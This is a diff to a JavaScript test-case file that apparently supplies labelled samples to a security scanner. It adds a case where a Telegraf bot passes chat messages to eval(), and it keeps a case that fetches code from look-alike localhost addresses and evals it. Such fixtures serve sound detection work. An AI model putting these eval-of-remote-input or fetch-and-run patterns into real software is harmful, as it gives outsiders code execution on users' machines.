@@ -111,6 +111,11 @@ export default defineCases({
       alone: 'block',
     },
     {
+      name: 'what a bot is told, beside a socket with this machine',
+      code: "const { Telegraf } = require('telegraf'), near = new WebSocket('ws://localhost:1'), bot = new Telegraf('x');\nbot.on('text', (ctx) => eval(ctx.message.text));",
+      alone: 'review',
+    },
+    {
       name: 'an address that only begins like this machine’s',
       code: "for (const host of ['localhost.a.example', 'x']) fetch('http://' + host + '/x').then((r) => r.text()).then((t) => eval(t));\nfetch('http://localhost:80@a.example/x').then((r) => r.text()).then((t) => eval(t));",
     },
